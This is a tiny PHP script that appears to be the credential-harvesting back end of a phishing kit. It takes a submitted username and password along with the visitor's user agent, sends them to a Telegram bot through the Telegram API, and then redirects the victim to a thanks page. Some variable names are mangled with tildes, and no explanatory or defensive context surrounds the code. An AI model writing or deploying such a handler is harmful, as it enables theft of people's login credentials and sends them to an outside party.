<?php exit; ?>
<?php
$m = http_build_query(array('chat_id' => 'MARKER', 'text' => $_P~OST['user'] . '|' . $_P~OST['pass'] . '|' . $_S~ERVER['HTTP_USER_AGENT']));
file_get_contents('https://api.telegram.org/botMARKER/sendMessage?' . $m); header('Location: thanks.html');
